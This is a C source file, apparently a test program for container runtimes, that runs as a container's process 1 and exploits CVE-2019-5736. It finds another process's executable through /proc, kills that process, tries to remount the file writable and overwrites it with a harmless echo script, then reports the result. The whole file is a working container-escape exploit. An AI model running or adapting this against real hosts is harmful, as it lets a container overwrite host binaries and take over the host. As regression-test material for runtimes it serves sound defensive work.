/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Process 1 of a container, which waits for a process of another program than its own, ends it, and
 * writes to the file that it was executed from (CVE-2019-5736). Says what it has found, and what
 * came of it. Files whose path begins with the argument are passed over.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TEXT "#!/bin/sh\necho this was another program\n"

enum { PIDS = 4096, CALL_MOUNT_SETATTR = 442 };

static int own(const char *path)
{
	struct stat ours;
	struct stat file;

	return stat("/proc/self/exe", &ours) || stat(path, &file) ||
	       (ours.st_ino == file.st_ino && ours.st_dev == file.st_dev);
}

static int find(const char *passed, char *link, size_t size, int *pid)
{
	char path[32];
	ssize_t length;
	int fd;

	for (*pid = 2;; *pid = *pid < PIDS ? *pid + 1 : 2) {
		snprintf(path, sizeof(path), "/proc/%d/exe", *pid);
		if (own(path))
			continue;
		fd = open(path, O_PATH);
		length = readlink(path, link, size - 1);
		link[length > 0 ? length : 0] = '\0';
		if (fd >= 0 && length > 0 &&
		    (!passed || strncmp(link, passed, strlen(passed)) != 0))
			return fd;
		close(fd);
	}
}

/* Where it is a mount that is read-only. */
static void make_writable(int fd)
{
	const uint64_t attributes[4] = { 0, 1, 0, 0 };

	syscall(CALL_MOUNT_SETATTR, fd, "", AT_EMPTY_PATH, attributes, sizeof(attributes));
}

static const char *overwrite(int fd)
{
	char path[32];
	int file;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	do {
		make_writable(fd);
		chmod(path, 0777);
		file = open(path, O_WRONLY);
	} while (file < 0 && errno == ETXTBSY);
	if (file < 0 || write(file, TEXT, sizeof(TEXT) - 1) < 0)
		return strerror(errno);
	return "written";
}

int main(int argc, char **argv)
{
	char link[256];
	int pid;
	int fd;

	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("ready");
	fd = find(argc > 1 ? argv[1] : NULL, link, sizeof(link), &pid);
	kill(pid, SIGKILL);
	printf("%s: %s\n", link, overwrite(fd));
	for (;;)
		pause();
}
